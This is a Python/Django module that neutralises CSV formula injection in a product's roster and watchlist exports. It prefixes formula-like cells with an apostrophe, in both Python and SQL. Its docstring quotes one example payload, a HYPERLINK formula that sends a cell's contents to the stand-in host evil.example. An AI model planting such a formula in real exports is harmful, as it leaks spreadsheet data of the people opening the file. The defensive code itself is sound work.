"""Text that people typed, written into a CSV a spreadsheet will open.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP, "CSV Injection"): a name typed as
`=HYPERLINK("http://evil.example/?"&A1,"Open")` would run in the county's or the state's
spreadsheet. Every CSV export of the product writes such cells as text, with a leading
apostrophe: the exports PostgreSQL writes itself (`COPY`, `core.csv_copy`: the county roster
CSV `workspace.views.roster` and the API's `/api/v1/roster.csv` `api.rows`) through the SQL
expression `spreadsheet_text_sql`, the others (the employer's watchlist) through
`spreadsheet_text`. Both apply the one rule below; docs/CONTRACTS.md states it for the API.
"""

from django.db.models import Case, Expression, F, Func, TextField, Value, When
from django.db.models.functions import Left
from django.db.models.lookups import In

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """`value` as a spreadsheet reads it as text: a leading apostrophe before a formula."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value


class _Prefixed(Func):
    """`'<prefix>' || expression` (the prefix a literal without quotes of its own)."""

    template = "'%(prefix)s' || %(expressions)s"
    output_field = TextField()


def spreadsheet_text_sql(expression: Expression | str) -> Case:
    """`spreadsheet_text` in SQL, for the exports PostgreSQL writes: the text `expression`
    (a field name or an expression) with a leading apostrophe when it starts like a formula.
    NULL stays NULL, and an empty text stays empty."""
    value = F(expression) if isinstance(expression, str) else expression
    return Case(
        When(
            In(Left(value, 1), [Value(start) for start in FORMULA_STARTS]),
            # The apostrophe doubled: it is written inside an SQL string literal.
            then=_Prefixed(value, prefix="''"),
        ),
        default=value,
        output_field=TextField(),
    )
